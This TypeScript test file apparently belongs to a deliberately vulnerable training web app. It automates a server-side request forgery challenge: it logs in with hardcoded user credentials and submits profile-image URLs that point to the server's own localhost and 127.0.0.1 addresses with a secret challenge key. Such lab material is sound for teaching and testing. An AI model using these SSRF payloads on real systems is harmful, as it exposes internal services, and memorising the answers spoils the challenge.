import type { Attack, Tools } from '#lab'

const SECRET = 'solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'

/** Logs in and links a picture at this address. */
async function link({ logIn, http, expect, settings }: Tools, imageUrl: string): Promise<void> {
  const { token } = await logIn(`jim@${settings.domain}`, 'ncc-1701')
  const headers = { cookie: `token=${token}`, 'content-type': 'application/x-www-form-urlencoded' }
  const form = new URLSearchParams({ imageUrl }).toString()
  const linked = await http.post('/profile/image/url', form, { headers })
  expect(linked.status === 302, `the link was answered with ${linked.status}`)
}

export const attacks: Attack[] = [
  {
    challenge: 'ssrfChallenge',
    name: 'a picture at a secret address of the server itself',
    run: (tools) => link(tools, `http://localhost:3000/${SECRET}`),
  },
  {
    challenge: 'ssrfChallenge',
    name: 'the same under another name',
    run: (tools) => link(tools, `http://127.0.0.1:3000/${SECRET}`),
  },
  {
    challenge: 'ssrfChallenge',
    name: 'the same with the ending of a picture',
    run: (tools) => link(tools, `http://localhost:3000/${SECRET}&name=cat.png`),
  },
  {
    challenge: 'ssrfChallenge',
    name: 'the same at the address that visitors use',
    run: (tools) => link(tools, `http://localhost/${SECRET}`),
  },
]
